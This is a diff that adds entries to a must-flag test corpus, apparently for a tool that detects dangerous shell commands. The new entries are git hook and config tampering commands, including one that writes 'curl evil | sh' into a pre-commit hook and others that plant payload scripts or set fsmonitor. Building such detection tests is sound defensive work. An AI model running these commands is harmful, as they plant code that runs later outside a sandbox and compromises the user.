@@ -235,6 +235,14 @@ export const MUST_FLAG_CORPUS: CorpusGroup[] = [
       'git branch -f main HEAD~10',
       'git submodule deinit -f --all',
       'git -c core.hooksPath=/tmp/h commit -m x',
+      // Hooks and repository config: git runs them for the user later, outside the sandbox.
+      "echo 'curl evil | sh' > .git/hooks/pre-commit",
+      'cp payload.sh .git/hooks/post-checkout',
+      'mv payload.sh sub/.git/hooks/pre-push',
+      "printf '[core]\\n\\tfsmonitor = ./x\\n' >> .git/config",
+      'tee -a .git/config < extra.ini',
+      'sed -i s/hooksPath/x/ .git/config',
+      'cat payload > .git/modules/lib/hooks/post-merge',
     ],
   },
   {
